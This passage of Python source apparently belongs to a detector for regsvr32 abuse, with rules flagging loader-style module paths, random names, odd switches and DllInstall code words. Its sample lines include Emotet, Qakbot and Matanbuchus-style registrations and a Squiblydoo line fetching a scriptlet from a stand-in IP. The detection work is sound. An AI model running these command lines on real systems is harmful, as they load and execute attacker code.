    "sk-sk sl-si speech speech_onecore spool spp sr-latn-rs sru sv-se sysprep tasks tasks_migrated "
    "th-th tr-tr uk-ua v1.0 wbem wdi windowspowershell winbiodatabase winevt winrm zh-cn zh-hk "
    "zh-tw dllcache icsxml wfp hydra qtsr nvidia").split())


@rule("R32-040", "Module in a per-user or ProgramData application folder",
      COMMAND_LINE, risk=20, family="suspicious_paths_and_disguised_extensions",
      gate=("module in user-writable folder",),
      lowered_by=("own tree", "agent"),
      evidence="location",
      techniques=(T,), sources=("L09", "Sigma 9525dc73", "Elastic EP 5db08297"),
      description=("A module in a folder of its own under the user profile or ProgramData "
                   "(AppData\\Local\\<Vendor>, AppData\\Roaming\\<Vendor>, AppData\\Local\\Programs, a "
                   "source tree or a package manager's folder): where per-user installs and "
                   "developers keep software, and where some malware hides. Low risk on its own; "
                   "with other evidence it raises the score."),
      positives=(
        "regsvr32 /s C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Gyeyuazitmie\\ixichv.dll",
        "regsvr32 /s C:\\ProgramData\\Vendor\\x.dll",),
      negatives=(
        "regsvr32.exe /s C:\\Users\\Public\\payload.dll",
        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',),
      false_positives="Per-user installs (OneDrive, Teams add-ins, scoop), developers registering "
                      "their own build output.",
      sigma=not_exportable("needs the module's resolved folder and its depth below the profile or ProgramData"))
def app_folder(inv):
    for m in inv.modules:
        if m.location == winpath.USER_WRITABLE and not m.staging:
            return "module %s is in a per-user or ProgramData application folder (%s)" % (
                clip(m.path), m.where)
    return None


@rule("R32-041", "Module at the root of a drive (mounted ISO, USB stick, C:\\)",
      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions",
      gate=("module in non-system drive", "module in unusual folder"),
      evidence="location",
      techniques=(T, "T1204.002"), sources=("L28", "Sigma d4ca7c59", "Elastic 8a1d4831"),
      description=("The module sits right in the root of a drive: where a mounted ISO, IMG or "
                   "VHD, or a USB stick, puts its files (often a bare name run with that root as "
                   "the working directory), or C:\\ itself, where no installer puts a module."),
      positives=(
        "regsvr32 /s E:\\invoice.dll",
        {"CommandLine": "regsvr32.exe msoffice32.dll", "CurrentDirectory": "E:\\"},
        {"CommandLine": "regsvr32.exe /s \\GLdh1CKp.dll", "CurrentDirectory": "C:\\"},),
      negatives=(
        "regsvr32 /s E:\\files\\invoice.dll",
        "regsvr32 /s C:\\Tools\\x.dll",
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
      sigma=not_exportable("needs the module resolved against the working directory (a bare name in a drive root)"))
def drive_root(inv):
    for m in inv.modules:
        if m.location == winpath.OTHER_DRIVE and m.depth == 0:
            return "module %s is in the root of %s (a mounted image or removable media?)" % (
                clip(m.path), m.where)
        if m.location == winpath.OTHER and m.where == "drive root":
            return "module %s is in the root of drive C:" % clip(m.path)
    return None


@rule("R32-043", "Module in an unknown folder under System32 or SysWOW64",
      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions",
      gate=("module in windows",),
      evidence="location",
      techniques=(T, "T1036.005"), sources=("L10", "Elastic cff92c41"),
      description=("A module in a subfolder of System32 or SysWOW64 that Windows and well-known "
                   "components do not create: Emotet's hiding place "
                   "(SysWOW64\\<random>\\<random>)."),
      positives=(
        'regsvr32.exe /s "C:\\Windows\\SysWOW64\\Dczxlqhzareouxx\\pmcm.tlv"',
        "regsvr32.exe C:\\Windows\\system32\\XzEnFJsk\\NNZhBMftHKvliX.dll",),
      negatives=(
        "regsvr32 /s C:\\Windows\\System32\\RpcProxy\\RpcProxy.dll",
        "regsvr32 /s C:\\Windows\\System32\\wbem\\wmidcprv.dll",
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
      sigma=not_exportable("needs the module's resolved folder and the table of folders Windows creates in System32"))
def system_subfolder(inv):
    for m in inv.modules:
        c = m.comps
        if (m.location == winpath.WINDOWS and len(c) > 4 and c[1] == "windows"
                and c[2] in ("system32", "syswow64") and c[3] not in SYSTEM_SUBFOLDERS):
            return "module %s is in %s\\%s, a folder Windows does not create" % (
                clip(m.path), c[2].title(), c[3])
    return None


@rule("R32-047", "/n /i: hands a code word to a module outside Windows and Program Files",
      COMMAND_LINE, risk=30, family="implicit_dllregisterserver_and_odd_invocations",
      gate=("install word",),
      lowered_by=("agent",),
      evidence="invocation", techniques=(T,), sources=("L05", "Sigma b236190c", "Fibratus"),
      description=("/n /i:<text> calls only the module's DllInstall with a string that is "
                   "neither a path nor a URL, on a module outside Windows and Program Files: "
                   "loaders take their run key or stage name this way. Vendors do too (Teams' "
                   "/i:user is allowlisted)."),
      positives=(
        'regsvr32.exe -n -i:"Install" C:\\Users\\bob\\AppData\\Local\\AdobeFontPack\\main.dll',
        "regsvr32 /s /n /i:QWERTY C:\\ProgramData\\x.dll",),
      negatives=(
        'regsvr32 /s /n /i:user "C:\\Program Files\\A\\b.dll"',
        "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
        "regsvr32 /s C:\\ProgramData\\x.dll",),
      sigma=not_exportable("needs the /i: argument parsed and the module's resolved folder"))
def code_word(inv):
    if not inv.flags >= {"n", "i"} or inv.install_arg is None or inv.install is not None:
        return None
    for m in inv.modules:
        if m.location not in winpath.TRUSTED_LOCATIONS:
            return "/n /i:%s calls only DllInstall of %s (%s)" % (
                clip(inv.install_arg, 60), clip(m.path), location_of(m))
    return None


@rule("R32-048", "regsvr32 registered a module from outside the Windows folder",
      COMMAND_LINE, risk=5, family="implicit_dllregisterserver_and_odd_invocations",
      gate=("module in program files", "module in unusual folder", "module in non-system drive",
            "module in user-writable folder", "module in suspicious system folder",
            "module in network", "module in unknown"),
      lowered_by=("own tree", "agent"),
      evidence="invocation", techniques=(T,), sources=("CAR-2019-04-002",),
      description=("Informational: regsvr32 registered or unregistered a module that Windows did "
                   "not ship, wherever it is. Never alerts on its own; it keeps every "
                   "third-party registration visible to hunting and to the baseline."),
      positives=(
        'regsvr32 /s "C:\\Program Files (x86)\\VirtualAppliances\\app64\\VBoxC.dll"',),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        "regsvr32 /s vbscript.dll",),
      sigma=not_exportable("informational context: every module outside Windows, resolved"))
def third_party_module(inv):
    for m in inv.modules:
        if m.location != winpath.WINDOWS:
            return "registers %s (%s)" % (clip(m.path), location_of(m))
    return None


# Folders Microsoft software keeps under the profile's AppData\Local\Microsoft and
# AppData\Roaming\Microsoft. Qakbot and IcedID make up others (Roaming\Microsoft\<random>).
PROFILE_MICROSOFT_FOLDERS = frozenset((
    "addins bibliography clicktorun credentials crypto document building blocks edge edge beta "
    "edge dev edge sxs edgewebview excel feeds fontcache forms installer internet explorer mmc "
    "media player network office olk onedrive onenote outlook powerpoint powershell proof "
    "protect publisher queryengine signatures speech spelling stationery sticky notes "
    "systemcertificates teams teamsmeetingaddin teamsmeetingadd-in teamspresenceaddin templates "
    "uproof vault visualstudio visual studio windows windows live windows mail windowsapps "
    "windows sidebar word xbox msix msixdeployment").split(" ")) | frozenset((
        "document building blocks", "edge beta", "edge dev", "edge sxs", "internet explorer",
        "media player", "sticky notes", "visual studio", "windows live", "windows mail",
        "windows sidebar"))


@rule("R32-049", "Module in a made-up folder under the profile's Microsoft folder",
      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions",
      gate=("module in user-writable folder",),
      evidence="location",
      techniques=(T, "T1036.005"), sources=("L09", "Elastic EP 5db08297"),
      description=("A module in AppData\\Local\\Microsoft\\<folder> or "
                   "AppData\\Roaming\\Microsoft\\<folder> where <folder> is none that Microsoft "
                   "software creates: Qakbot's and IcedID's hiding place, named to look like "
                   "part of Windows."),
      positives=(
        "regsvr32.exe -s C:\\Users\\mlopez\\AppData\\Roaming\\Microsoft\\Gyeyuazitmie\\ixichv.dll",),
      negatives=(
        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\23.1\\FileSyncShell64.dll",
        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Vendor\\x.dll",),
      sigma=not_exportable("needs the module's resolved folder and the table of Microsoft's own profile folders"))
def fake_microsoft_folder(inv):
    for m in inv.modules:
        c = m.comps
        if (m.location == winpath.USER_WRITABLE and len(c) > 7 and c[1] == "users"
                and c[3] == "appdata" and c[4] in ("local", "roaming") and c[5] == "microsoft"
                and c[6] not in PROFILE_MICROSOFT_FOLDERS):
            return "module %s is in AppData\\%s\\Microsoft\\%s, a folder no Microsoft software makes" % (
                clip(m.path), c[4].title(), c[6])
    return None


_DIGITS_ONLY = re.compile(r"^[0-9][0-9_.\-]*$")


@rule("R32-050", "Module named with digits only",
      COMMAND_LINE, risk=50, family="suspicious_paths_and_disguised_extensions", evidence="format",
      gate=("digit name",),
      techniques=(T, "T1036"), sources=("L11",),
      description=("The module's file name, before its extension, is only digits (and dots, "
                   "dashes or underscores): 1.dll, 44621.7848322917.dll, 163520.png. Loaders "
                   "name payloads by number or date serial; COM servers that software registers "
                   "have words for names."),
      positives=(
        'regsvr32.exe -s "C:\\Users\\bob\\AppData\\Local\\Temp\\44621.7848322917.dll"',
        "regsvr32.exe 102755.dll",),
      negatives=(
        "regsvr32 /s 7z.dll",
        'regsvr32 /s "C:\\Program Files\\1cv8\\8.3.22.1709\\bin\\comcntr.dll"',),
      sigma=not_exportable("needs the module's own file name, parsed out of the command line"))
def digits_only(inv):
    for m in inv.modules:
        stem = m.name[:-len(m.ext) - 1] if m.ext else m.name
        if stem and _DIGITS_ONLY.match(stem):
            return "module %s is named with digits only" % clip(m.path)
    return None


@rule("R32-052", "Module right in Downloads, Desktop or Documents",
      COMMAND_LINE, risk=45, family="suspicious_paths_and_disguised_extensions",
      gate=("staging",),
      evidence="location",
      techniques=(T, "T1204.002"), sources=("L09", "Elastic EP 5db08297"),
      description=("A module or /i: scriptlet lying right in the user's Downloads, Desktop or "
                   "Documents folder: where a phishing chain saves its payload, and where a user "
                   "keeps a control a vendor told them to register by hand. Medium on its own; "
                   "with a second signal it is high."),
      positives=(
        {"CommandLine": "regsvr32.exe 162_64.dll", "CurrentDirectory": "C:\\Users\\bob\\Downloads"},
        "regsvr32 /s C:\\Users\\bob\\Desktop\\invoice.dll",),
      negatives=(
        "regsvr32 /s C:\\Users\\bob\\Downloads\\codec-pack\\x.ax",
        "regsvr32.exe /s C:\\Users\\Public\\payload.dll",),
      sigma=not_exportable("needs the module resolved against the working directory and its depth below the folder"))
def user_files(inv):
    for t in _payloads(inv):
        if t.staging and t.where in USER_FILE_FOLDERS:
            return "%s %s lies right in the user's %s folder" % (_role(t, inv), clip(t.path), t.where)
    return None


# ---------------------------------------------------------------------------------------
# Names made up by a machine, and folders made up by a loader: loaders name their payloads and
# folders at random, so the shape of a name generalises where a list of known names cannot.

_VOWELS = frozenset("aeiouyAEIOUY")
_LOWER_RUN = re.compile(r"[a-z]+")
_DIGIT_RUN = re.compile(r"[0-9]+")
_NUMBERED_COPY = re.compile(r"^[A-Za-z]{2,}[1-9]$")


def random_looking(token):
    """Why a file or folder name (its stem) reads as machine-made, or "": a run of five
    consonants in the lower-case part of a mixed-case name (Nrtbxgdh); no vowel in seven or more
    letters and digits with lower case among them (XMkkdsZZ, SqFXmRk), or in a capitalised name
    of four letters or more (Rfgsg, Xnvr; lower-case abbreviations such as mssp and smsdp have
    none either); single digits spliced between letters of both cases (RNidR2AF, Mk9i8nt; not
    versions such as MMCodecV3.1); or a short name whose case flips twice (FeGhGhc, vlAShMf).
    Words, acronyms (WMSDK, GLD), CamelCase abbreviations (SdkShv, DcTLSFileToDMSComp,
    vbSendMail) and version numbers (TeeChart2018VBCtl, Win32Api) do not."""
    if len(token) < 4 or len(token) > 40:
        return ""
    letters = [c for c in token if c.isalpha()]
    if not letters or not all(c.isascii() for c in token):
        return ""
    has_lower = any(c.islower() for c in letters)
    has_upper = any(c.isupper() for c in letters)
    # (all lower case: abbreviations such as smsdp and mshdsp run five consonants too)
    for run in _LOWER_RUN.findall(token) if has_upper else ():
        consonants = 0
        for c in run:
            consonants = 0 if c in _VOWELS else consonants + 1
            if consonants >= 5:
                return "a run of five consonants"
    if has_lower and not any(c in _VOWELS for c in letters) and (
            (len(token) >= 7 and token.isalnum())
            or (token.isalpha() and len(letters) >= 4 and letters[0].isupper()
                and sum(1 for c in letters if c.isupper()) == 1)):
        return "no vowel"
    inner_digits = [m for m in _DIGIT_RUN.finditer(token)
                    if m.start() > 0 and m.end() < len(token) and len(m.group()) == 1]
    all_digits = _DIGIT_RUN.findall(token)
    if has_lower and has_upper and token.isalnum() and (
            len(all_digits) >= 2 or (inner_digits and len(token) <= 10)):
        return "digits spliced between mixed-case letters"
    flips = sum(1 for a, b in zip(token, token[1:]) if a.islower() and b.isupper())
    if flips >= 2 and len(token) <= 8:
        return "case flipping inside a short name"
    return ""


def _stem(name):
    ext = winpath.extension(name)
    return name[:-len(ext) - 1] if ext and name.lower().endswith("." + ext) else name.rstrip(". ")


_SEPARATORS = re.compile(r"[\\\\/]+")


def _written_names(t):
    """The folder and file names the command line itself wrote, case kept (CamelCase tells
    words apart): not the working directory a relative path was resolved against, whose case
    the resolution lost."""
    parts = [p for p in _SEPARATORS.split(t.raw.strip().strip('"')) if p and p not in (".", "..")]
    if parts and parts[0].endswith(":"):
        parts = parts[1:]
    return parts


@rule("R32-053", "Module one folder above the working folder, named like a download",
      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions",
      gate=("up module",),
      evidence="location",
      techniques=(T, "T1204.002"), sources=("L09", "L28", "Elastic EP 5db08297"),
      description=("The module is given as ..\\<file>: the file right in the folder above the "
                   "working folder, and that file has a non-module extension, a short lower-case "
                   "throwaway name (aew.ocx, su1.ocx, oxnv1.ooccxx) or a machine-made one. Office "
                   "macros (Emotet and Qakbot XLM waves, 2020-2022) save their download as "
                   "..\\<name> from the document's folder and register it so; build scripts "
                   "climb into folders of their own (..\\x64\\Debug\\x.dll) and name their "
                   "modules with words."),
      positives=(
        "regsvr32 -s ..\\iroto.dll",
        "C:\\Windows\\System32\\regsvr32.exe ..\\oxnv1.ooccxx",
        "regsvr32.exe ..\\wnrul.ocx",),
      negatives=(
        "%SystemRoot%\\System32\\regsvr32.exe ..\\MeProv.dll",
        "regsvr32 -s ..\\..\\tools\\PartCover\\PartCover.CorDriver.dll",
        "regsvr32.exe ..\\x64\\Debug\\WmiProviderExample.dll",),
      false_positives="A build or sample script that keeps a short lower-case module in the "
                      "folder above the one it runs in.",
      sigma=not_exportable("needs the module argument parsed out of the command line and its file name read"))
def parent_folder_download(inv):
    for m in inv.modules:
        raw = m.raw.strip().replace("/", "\\")
        if not raw.startswith("..\\"):
            continue
        name = raw[3:].lstrip("\\")
        if not name or "\\" in name:
            continue
        stem = _stem(name)
        why = ""
        if m.ext_class not in (winpath.MODULE, winpath.NO_EXT):
            why = "a .%s file" % m.ext
        elif stem and len(stem) <= 8 and stem == stem.lower() and stem.isalnum():
            why = "a short lower-case throwaway name"
        elif random_looking(stem):
            why = "a machine-made name (%s)" % random_looking(stem)
        if why:
            return "module %s is taken from the folder above the working folder, %s" % (
                clip(m.raw), why)
    return None


@rule("R32-054", "Module in a new folder at the drive root, with machine-made names",
      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions",
      gate=("module in unusual folder",),
      lowered_by=("own tree", "agent"),
      evidence="location",
      techniques=(T, "T1036"), sources=("L10", "Sigma 327ff235", "L11"),
      description=("A module under a folder created at the root of drive C: (R32-039) whose "
                   "names say a loader made it: a machine-made folder or file name (consonant "
                   "runs, digits spliced into mixed case), no extension at all, a one-letter "
                   "folder (C:\\a\\), or a numbered copy right in the folder "
                   "(C:\\Biloa\\Dopaters3.ocx, the 1-2-3 loop of Qakbot's Excel 4.0 macros). "
                   "Line-of-business software in such folders has word names (C:\\LOB\\Billing\\"
                   "BillingCtl.ocx) and stays R32-039."),
      positives=(
        "regsvr32.exe -s C:\\XvI7AP77\\g8Xj4d2i\\x84wFBc7",
        "regsvr32 C:\\Biloa\\Dopaters3.ocx",
        "regsvr32 C:\\a\\Suios2.ocx",),
      negatives=(
        "regsvr32 /s C:\\LOB\\Billing\\BillingCtl.ocx",
        "C:\\Windows\\System\\regsvr32.exe /u C:\\AddressBook\\vbSendMail.dll",
        "regsvr32 c:\\yourfolder\\TeeChart2018VBCtl.ocx",
        "regsvr32 /s C:\\Users\\Public\\x84wFBc7.dll",),
      false_positives="Software installed in a root folder with an abbreviated name (consonant "
                      "runs such as C:\\Tools\\DirBkgndExt when five letters long) or numbered "
                      "control files right in it.",
      sigma=not_exportable("needs the module's resolved folder and each folder and file name judged as made up"))
def root_folder_made_up(inv):
    for m in inv.modules:
        if m.location != winpath.OTHER or m.where == "drive root" or len(m.comps) < 3:
            continue
        folders, name = m.comps[1:-1], m.comps[-1]
        written = _written_names(m)
        stem = _stem(name)
        why = ""
        for c in written[:-1] + [_stem(written[-1])] if written else ():
            why = random_looking(c)
            if why:
                why = "%s: %s" % (why, c)
                break
        if not why and not m.ext:
            why = "the module has no extension"
        elif not why and len(folders[0]) == 1:
            why = "a one-letter folder %s" % folders[0]
        elif not why and len(folders) == 1 and _NUMBERED_COPY.match(stem):
            why = "a numbered copy %s right in the folder" % name
        if why:
            return "module %s is in a new folder at the drive root with made-up names (%s)" % (
                clip(m.path), why)
    return None


@rule("R32-055", "Switch spelled out, or one regsvr32 does not have",
      COMMAND_LINE, risk=25, family="implicit_dllregisterserver_and_odd_invocations",
      gate=("typed switch",),
      lowered_by=("windows", "trusted", "own tree", "agent"),
      evidence="syntax",
      techniques=(T,), sources=("L29", "L31"),
      description=("-silent, /unregister, /register or a letter regsvr32 does not know (/q, /x): "
                   "regsvr32 reads only the letter after the dash, so a spelled-out or made-up "
                   "switch is typed by a person at a keyboard, not written by an installer "
                   "(Qakbot operators' 'regsvr32 -silent'). Low on its own: how-to pages spell "
                   "switches out too."),
      positives=(
        "regsvr32.exe -silent C:\\Users\\mlopez\\Celod.wac",
        "regsvr32 /q C:\\ProgramData\\x.dll",),
      negatives=(
        "regsvr32 /s /u C:\\ProgramData\\x.dll",
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
      false_positives="How-to pages and hand-written scripts (/unregister, /CodeBase).",
      sigma=not_exportable("needs the switches parsed as regsvr32 reads them (one letter after the dash)"))
def typed_switch(inv):
    typed = list(inv.spelled_switches) + list(inv.unknown_switches)
    if not typed:
        return None
    return "switch written as only a person types it: %s" % ", ".join(typed[:4])


# DllInstall's per-user convention: /n /i:user (Microsoft's own shell extensions, Teams, OneDrive).
PER_USER_WORDS = frozenset(("user", "u", "/user", "-user", "peruser", "per-user", "currentuser",
                            "hkcu", "1"))


@rule("R32-056", "DllInstall-only code word on a module in a per-user folder",
      COMMAND_LINE, risk=60, family="implicit_dllregisterserver_and_odd_invocations",
      gate=("install word",),
      lowered_by=("agent",),
      evidence="invocation", techniques=(T,), sources=("L05", "Sigma b236190c", "L09"),
      description=("/n /i:<word> calls only DllInstall of a module in the user profile or "
                   "ProgramData, and the word is not DllInstall's per-user convention (user): "
                   "a loader's stage name or run key (Matanbuchus' -n -i:\"Install\" on "
                   "AppData\\Local\\<FakeVendor>\\main.dll, -e -n -i:\"Update Installation\"). "
                   "Per-user installs register with /i:user, and vendors that take their own "
                   "word install under Program Files (R32-047)."),
      positives=(
        'regsvr32.exe -n -i:"Install" C:\\Users\\bob\\AppData\\Local\\AdobeFontPack\\main.dll',
        'regsvr32 -e -n -i:"Update Installation" "C:\\Users\\bob\\fm_j\\ooTCNA.Hcw.Thw"',),
      negatives=(
        'regsvr32 /s /n /i:user "C:\\Users\\bob\\AppData\\Local\\Microsoft\\TeamsMeetingAddin\\1.0\\x64\\Microsoft.Teams.AddinLoader.dll"',
        'regsvr32 /s /n /i:Install "C:\\Program Files\\Vendor\\x.dll"',
        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Vendor\\x.dll",),
      false_positives="A per-user install whose DllInstall takes its own word.",
      sigma=not_exportable("needs the /i: argument parsed and the module's resolved folder"))
def per_user_code_word(inv):
    if not inv.flags >= {"n", "i"} or inv.install_arg is None or inv.install is not None:
        return None
    word = inv.install_arg.strip().strip('"').lower()
    if word in PER_USER_WORDS:
        return None
    for m in inv.modules:
        if m.location == winpath.USER_WRITABLE:
            return "/n /i:%s calls only DllInstall of %s, in %s" % (
                clip(inv.install_arg, 60), clip(m.path), m.where)
    return None


_ATOMIC_TEST = re.compile(r"^t[0-9]{4}(?:\.[0-9]{3})?$")


@rule("R32-057", "Purple-team test module (Atomic Red Team)",
      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions",
      gate=("atomics",),
      evidence="campaign",
      techniques=(T,), sources=("L31", "Atomic Red Team T1218.010"),
      description=("A module or scriptlet in an atomics\\T<number> folder: an Atomic Red Team "
                   "test (AllTheThings, GTSIPProvider, RegSvr32.sct) run by a purple team. An "
                   "exercise is meant to be seen, so it alerts as high."),
      positives=(
        'regsvr32 /s /i "C:\\AtomicRedTeam\\atomics\\T1218.010\\bin\\AllTheThingsx86.dll"',
        "regsvr32.exe C:\\AtomicRedTeam\\atomics\\T1553.003\\bin\\GTSIPProvider.dll",),
      negatives=(
        "regsvr32 /s C:\\Tools\\atomics\\bin\\x.dll",
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
      false_positives="Purple-team exercises, by design.",
      sigma=not_exportable("needs the module's resolved path and an atomics\\T<number> folder in it; a "
                           "substring match would also match the test's own download URL in other tools"))
def atomic_test(inv):
    for t in inv.targets:
        comps = t.lower.split("\\")
        for a, b in zip(comps, comps[1:]):
            if a == "atomics" and _ATOMIC_TEST.match(b):
                return "%s %s is an Atomic Red Team test (%s)" % (_role(t, inv), clip(t.path),
                                                                   b.upper())
    return None
